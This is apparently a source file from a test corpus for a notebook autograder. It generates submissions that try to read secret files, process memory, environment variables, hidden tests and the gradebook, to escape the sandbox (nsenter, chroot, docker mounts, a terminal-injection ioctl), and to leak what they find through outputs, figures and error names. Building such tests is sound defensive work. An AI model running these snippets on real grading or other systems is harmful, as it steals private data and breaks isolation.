"""Submissions that try to read files on the grading machine and reveal them."""

from __future__ import annotations

from collections.abc import Iterator

from corpus.expected import RAN_OR_TAMPERED, Submission
from corpus.planted_files import STRAY, Secrets
from corpus.sandbox_escape import ESCAPES
from corpus.submission_builder import SubmissionBuilder, dedent, description

# The snippets use these functions to output what they find, in several encodings and in every way
# that a notebook offers.
REVEAL_FUNCTIONS = """
import sys
from IPython.display import HTML, Markdown, display

_told = []


def tell(what, got):
    text = f"{what}: {got}"[:20_000]
    _told.append(text)
    for form in (text, text[::-1], text.encode("utf-8", "replace").hex()):
        print(form)
        print(form, file=sys.stderr)
        display(Markdown(form), HTML(f"<p title='{form}'>{form}</p>"))
        with open("told.txt", "a") as file:
            file.write(form)


def attempt(what, do, *args):
    try:
        tell(what, do(*args))
    except BaseException as error:
        print(what, type(error).__name__)


def tell_by_error():
    text = "\\n".join(_told)
    raise type("Told" + text[:2000], (Exception,), {})(text)
""".strip()

# These snippets go below the last test. `filled` replaces the all-caps names.
FILE_READERS = {
    "reads-environment": """
        # Reads the environment and the arguments of every process.
        import glob, os, subprocess
        attempt("own", lambda: dict(os.environ))
        attempt("variable", lambda: os.environ["VARIABLE"])
        for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
            attempt(path, lambda: open(path, "rb").read())
        attempt("ps", lambda: subprocess.check_output("ps auxwwe", shell=True))
    """,
    "reads-secret-file": """
        # Reads a file by its path, through links, and through the root folders of other processes.
        import glob, os, subprocess
        path = FILE
        attempt("open", lambda: open(path).read())
        attempt("cat", lambda: subprocess.check_output(["cat", path]))
        attempt("up", lambda: open("../" * 30 + path).read())
        attempt("link", lambda: (os.symlink(path, "link"), open("link").read()))
        attempt("hard link", lambda: (os.link(path, "hard"), open("hard").read()))
        for root in glob.glob("/proc/*/root") + glob.glob("/proc/*/task/*/root"):
            attempt(root, lambda: open(root + path).read())
        for handle in glob.glob("/proc/*/fd/*"):
            attempt(handle, lambda: (os.readlink(handle), os.listdir(handle)))
    """,
    "reads-course": """
        # Reads the sources with the hidden tests, the gradebook, and all submissions.
        import os, pathlib, sqlite3
        for place in (COURSE, SUBMISSIONS):
            attempt(place, os.listdir, place)
            for path in pathlib.Path(place).rglob("*"):
                attempt(str(path), lambda: path.read_bytes()[:5000])
        attempt("neighbor", lambda: open(OTHER).read())
        attempt("gradebook", lambda: open(GRADEBOOK, "rb").read())
        book = sqlite3.connect(f"file:{GRADEBOOK}?mode=ro", uri=True)
        attempt("tables", lambda: book.execute("select * from student").fetchall())
    """,
    "looks-everywhere": """
        # Searches the whole machine for notebooks, sources, and gradebooks.
        import os, time
        ends = time.monotonic() + 8
        for place, folders, files in os.walk("/"):
            folders[:] = [f for f in folders if f not in ("proc", "sys", "site-packages", "share")]
            for name in files:
                path = os.path.join(place, name)
                wanted = name.endswith((".ipynb", ".db", ".csv", "source.md", "answers.py"))
                if (wanted or "secret" in name) and os.path.isfile(path):
                    attempt(path, lambda: open(path, "rb").read()[:5000])
            if time.monotonic() > ends:
                break
        attempt("mounts", lambda: open("/proc/self/mountinfo").read())
    """,
    "reads-memory": """
        # Reads the memory of other processes.
        import ctypes, glob, os
        libc = ctypes.CDLL(None)
        for place in glob.glob("/proc/[0-9]*"):
            if place != f"/proc/{os.getpid()}":
                attempt(place, lambda: open(place + "/maps").read()[:100])
                attempt(place, lambda: open(place + "/mem").read(9))
                attempt("trace " + place, lambda: 1 / (1 + libc.ptrace(16, int(place[6:]), 0, 0)))
    """,
    "leaves-the-sandbox": """
        # Tries to leave the sandbox through mounts, namespaces, other users, and terminals.
        import fcntl, os, subprocess
        file = FILE
        for command in (
            f"unshare -Urm cat {file}", f"nsenter -t 1 -a cat {file}",
            f"chroot /proc/1/root cat {file}",
            f"su -c 'cat {file}'", f"sudo -n cat {file}", f"bwrap --bind / / cat {file}",
            "mount -o remount,rw /", f"docker run -v /:/host alpine cat /host{file}",
        ):
            attempt(command, lambda: subprocess.check_output(command, shell=True, timeout=5))
        attempt("root", os.setuid, 0)
        for terminal in ("/dev/tty", "/dev/console", "/proc/self/fd/0"):
            attempt(terminal, lambda: fcntl.ioctl(os.open(terminal, os.O_RDWR), 0x5412, b"x"))
    """,
}
HARMFUL = ("leaves-files", "leaves-the-sandbox", "reads-memory")
FIGURE = """
# Reveals the secret in the text of a figure.
import matplotlib
matplotlib.use("agg")
import matplotlib.pyplot as plt
plt.rcParams["svg.fonttype"] = "none"
%config InlineBackend.figure_formats = ["svg"]
attempt("file", lambda: open(FILE).read())
plt.figure().text(0, 0.5, _told[-1] if _told else "nothing")
plt.savefig("figure.svg")
from IPython.display import SVG
display(SVG(filename="figure.svg"))
"""


def filled(code: str, secrets: Secrets) -> str:
    """Return a snippet in which the secrets replace the all-caps names."""
    for word in ("COURSE", "SUBMISSIONS", "OTHER", "GRADEBOOK", "FILE"):
        code = code.replace(word, repr(str(getattr(secrets, word.lower()))))
    code = code.replace("VARIABLE", secrets.variable).replace("STRAY", STRAY)
    return code.replace("PORT", str(secrets.port))


def submissions(builder: SubmissionBuilder) -> Iterator[Submission]:
    """Yield the submissions of this kind."""
    secrets = builder.secrets
    for name, text in {**FILE_READERS, **ESCAPES, "reveals-in-figure": FIGURE}.items():
        code = filled(dedent(text), secrets)
        if name in HARMFUL:
            code = builder.only_in_sandbox(code)
        notebook = builder.insert(builder.right(), REVEAL_FUNCTIONS, at="start")
        builder.insert(builder.insert(notebook, code), "tell_by_error()")
        core = name not in ("reads-memory", "reveals-in-figure", "leaves-files")
        yield Submission(
            name,
            "secret-reading",
            description(code),
            notebook,
            RAN_OR_TAMPERED,
            builder.full_score,
            core=core,
        )

    code = filled(
        "# Reads the file in an answer, and raises an error with its content.\n"
        'try:\n    _text = open(FILE).read()\nexcept OSError:\n    _text = ""\n'
        "if _text:\n    raise type(_text, (AssertionError,), {})(_text)",
        secrets,
    )
    score = (builder.full_score - builder.first_function()[0].total, builder.full_score)
    content = builder.with_code_in_answer(code)
    yield Submission(
        "reads-in-the-answer", "secret-reading", description(code), content, RAN_OR_TAMPERED, score
    )

    path = secrets.file
    text = f"![x]({path}) <img src='file://{path}'> ![y](attachment:{path})"
    text += f"\n\n{{% include '{path}' %}} {{{{ resources }}}}\n\n<object data='{path}'>"
    notebook = builder.insert(builder.right(), text, kind="markdown")
    notebook.cells[-1]["attachments"] = {str(secrets.file): {"text/plain": f"@{secrets.file}"}}
    yield Submission(
        "embeds-files",
        "secret-reading",
        "Has text that embeds files of the machine.",
        notebook,
        RAN_OR_TAMPERED,
        builder.full_score,
        core=True,
    )
